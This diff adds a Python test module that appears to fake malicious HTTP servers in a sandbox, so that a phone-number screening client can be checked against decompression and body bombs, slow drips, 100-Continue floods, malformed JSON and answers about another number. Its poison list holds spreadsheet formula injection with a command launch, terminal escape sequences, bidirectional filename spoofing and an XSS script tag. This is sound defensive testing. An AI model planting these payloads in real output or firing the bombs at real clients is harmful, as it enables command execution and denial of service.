@@ -1,0 +1,114 @@
+"""Answers of servers that mean harm: bombs, drips, floods, answers of others, poisoned texts.
+
+Most of them cannot be said with a web server's means, so a reply holds the very bytes. Pure,
+as ``faults`` is; nothing here is ever the truth about a number.
+"""
+
+from __future__ import annotations
+
+import gzip
+from collections.abc import Callable, Iterable, Iterator
+from itertools import chain, repeat
+
+import msgspec
+
+from batch_screen.sandbox.magic import Behaviour
+
+_OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+_BLOCK = b" " * 65_536
+_BLOCKS_IN_A_GIGABYTE = 2**30 // len(_BLOCK)
+_DRIPS = 3600
+_FALSE_DATE = "2001-02-03T04:05:06Z"
+_EVERY_FIELD = {
+    "swapped": True,
+    "active": True,
+    "latestSimChange": _FALSE_DATE,
+    "latestDeviceChange": _FALSE_DATE,
+}
+_OTHERS_BODY = msgspec.json.encode(_EVERY_FIELD)
+
+OTHERS_ANSWER = (
+    _OK
+    + b"x-correlator: 00000000-0000-0000-0000-000000000000\r\n"
+    + b"Content-Length: %d\r\n\r\n" % len(_OTHERS_BODY)
+    + _OTHERS_BODY
+)
+"""A well-formed answer to somebody else's question, under every name there is."""
+
+FOREIGN_NUMBER = "+441632960961"
+
+_ODD_DOCUMENTS = (
+    b"\xef\xbb\xbf" + _OTHERS_BODY,
+    _OTHERS_BODY.decode().encode("utf-16"),
+    _OTHERS_BODY + _OTHERS_BODY,
+    _OTHERS_BODY + b"]",
+    _OTHERS_BODY[:-1] + b',"deep":' + b"[" * 30_000 + b"]" * 30_000 + b"}",
+    _OTHERS_BODY[:-1] + b',"large":' + b"9" * 60_000 + b"}",
+    _OTHERS_BODY.replace(b":", b":[").replace(b",", b"],").replace(b"}", b"]}"),
+    _OTHERS_BODY.replace(b"s", b"\\u017f").replace(b"act", b"Act"),
+)
+_POISON = (
+    '=HYPERLINK("http://127.0.0.1/?x="&A1)',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
+    "a\u202etxt.exe\u2066b\u200b\u2028c\x00d\r\ne",
+    "<script>alert(1)</script>[red]x[/red]{0}%s",
+)
+
+
+def poisoned_fields(number: str, key: str) -> dict[str, object]:
+    """An error's code and message, with all that must not reach a terminal, a sheet or a log."""
+    poison = _POISON[int(number[-3:]) % len(_POISON)]
+    return {"status": 422, "code": poison, "message": f"{poison} {number} {key}"}
+
+
+def foreign_fields() -> dict[str, object]:
+    """A success that says itself whose it is: somebody else's."""
+    return {**_EVERY_FIELD, "phoneNumber": FOREIGN_NUMBER}
+
+
+def odd_document(number: str) -> bytes:
+    """A body that careless readers take for JSON."""
+    return _ODD_DOCUMENTS[int(number[-3:]) % len(_ODD_DOCUMENTS)]
+
+
+def gzip_bomb() -> bytes:
+    """An answer of 32 MiB in 32 KiB."""
+    return gzip.compress(_OTHERS_BODY + b" " * 2**25)
+
+
+def _body_bomb() -> Iterator[bytes]:
+    head = _OK + b"Transfer-Encoding: chunked\r\n\r\n"
+    return chain([head], repeat(b"10000\r\n" + _BLOCK + b"\r\n", _BLOCKS_IN_A_GIGABYTE))
+
+
+def _length_bomb() -> Iterator[bytes]:
+    head = _OK + b"Content-Length: 1073741824\r\n\r\n"
+    return chain([head], repeat(_BLOCK, _BLOCKS_IN_A_GIGABYTE))
+
+
+def _header_bomb() -> Iterator[bytes]:
+    return chain([_OK, b"X-Large: "], repeat(b"x" * 65_536, 160))
+
+
+def _interim_flood() -> Iterator[bytes]:
+    return chain(repeat(b"HTTP/1.1 100 Continue\r\n\r\n" * 100, 100), [OTHERS_ANSWER[:40]])
+
+
+def _drip(head: bytes) -> Iterator[bytes]:
+    return chain([head + b"Content-Length: 9999\r\n\r\n"], repeat(b" ", _DRIPS))
+
+
+RAW: dict[Behaviour, Callable[[], Iterable[bytes]]] = {
+    Behaviour.BODY_BOMB: _body_bomb,
+    Behaviour.LENGTH_BOMB: _length_bomb,
+    Behaviour.HEADER_BOMB: _header_bomb,
+    Behaviour.INTERIM_FLOOD: _interim_flood,
+    Behaviour.DRIP: lambda: _drip(_OK),
+    Behaviour.ERROR_DRIP: lambda: _drip(b"HTTP/1.1 422 No\r\n"),
+    Behaviour.NOISE: lambda: [_OTHERS_BODY, OTHERS_ANSWER],
+}
+"""What is sent instead of an answer, piece by piece, before the connection is closed."""
+
+DRIP_SECONDS = 1.0
+LATE_SECONDS = 0.02
